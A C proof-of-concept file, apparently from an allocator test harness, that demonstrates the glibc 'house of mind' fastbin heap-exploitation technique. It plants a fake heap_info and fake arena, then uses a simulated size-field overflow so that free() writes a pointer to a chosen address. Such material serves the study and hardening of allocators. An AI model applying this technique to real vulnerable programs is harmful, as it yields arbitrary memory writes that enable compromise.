/* Technique: house of mind, fastbin variant (how2heap
   house_of_mind_fastbin).

   Goal: a write to a chosen address: free () stores a heap pointer into
   a word of the attacker's choice (here fake_arena->fastbinsY[4], in a
   heap block the program controls).

   How: free () finds a chunk's arena from the in-band NON_MAIN_ARENA
   bit: if set, from the heap_info at the chunk's address rounded down
   to HEAP_MAX_SIZE (64 MiB), whose first word is the arena pointer.
   The program grows the main heap until a 64 MiB boundary lies inside
   a block it owns, writes there a fake heap_info whose ar_ptr is a fake
   arena (with a large system_mem, for the "invalid next size (fast)"
   check), allocates a 0x60 chunk just past the boundary, fills the 0x60
   tcache bin, sets NON_MAIN_ARENA in the chunk's size by an overflow
   and frees it.  _int_free puts it into the fake arena's fastbin,
   writing the chunk address into fake_arena->fastbinsY[4].  */
#include "attack.h"

#define HEAP_MAX 0x4000000UL	/* HEAP_MAX_SIZE on x86_64 */
#define FASTBINS_OFF 0x10	/* offsetof (struct malloc_state, fastbinsY) */
#define SYSTEM_MEM_OFF 0x888	/* offsetof (struct malloc_state, system_mem) */
#define BLOCK 0x1ff00		/* chunk size of the blocks that grow the heap */

int
main (void)
{
  attack_init ("house_of_mind_fastbin: NON_MAIN_ARENA bit set, fake heap_info and arena, free writes into the fake arena");
  char *fake_arena = malloc (0x1000);
  memset (fake_arena, 0, 0x1000);
  *(size_t *) (fake_arena + SYSTEM_MEM_OFF) = 0xffffff;
  size_t *target = (size_t *) (fake_arena + FASTBINS_OFF + 4 * 8);

  void *tc[7];
  for (int i = 0; i < 7; i++)
    tc[i] = malloc (0x58);

  /* Grow the heap with blocks below the mmap threshold until one of
     them contains the next 64 MiB boundary; the victim chunk comes
     next, past the boundary.  In glibc's layout the blocks are 0x1ff00
     bytes apart, from the top chunk on: a pad keeps the boundary off
     their headers.  */
  char *probe = malloc (0x18);
  uintptr_t top = (uintptr_t) CHUNK (probe) + 0x20;
  uintptr_t boundary = (top + 0x1000 + HEAP_MAX - 1) & ~(HEAP_MAX - 1);
  size_t off = (boundary - top) % BLOCK;
  if (off < 0x20 || off > BLOCK - 0x20)
    malloc (0x100 - 8);
  char *last = NULL;
  for (size_t i = 0; i < (boundary - top) / BLOCK + 4 && i < 2 * HEAP_MAX / BLOCK; i++)
    {
      char *f = malloc (BLOCK - 8);
      if (!f)
	break;
      if ((uintptr_t) f <= boundary && (uintptr_t) f + BLOCK - 8 >= boundary + 8)
	{
	  last = f;
	  break;
	}
    }
  if (!last)
    no_effect ("no block contains the 64 MiB boundary %#lx", (unsigned long) boundary);
  size_t *victim = malloc (0x58);
  say ("fake arena %p target %p boundary %#lx inside %p; victim %p",
       fake_arena, target, (unsigned long) boundary, last, victim);
  if ((uintptr_t) victim < boundary || (uintptr_t) victim >= boundary + HEAP_MAX)
    no_effect ("the victim %p is not past the boundary %#lx", victim, (unsigned long) boundary);

  for (int i = 0; i < 7; i++)
    free (tc[i]);			/* tcache 0x60 full */
  *(void **) boundary = fake_arena;	/* fake heap_info->ar_ptr */
  SIZE (victim) |= NON_MAIN_ARENA;	/* the overflow */
  free (victim);
  say ("fake_arena->fastbinsY[4] = %#zx", *target);
  if (*target == (size_t) CHUNK (victim))
    reached ("free wrote the chunk address %#zx to the chosen address %p", *target, target);
  no_effect ("the fake arena was not written");
}
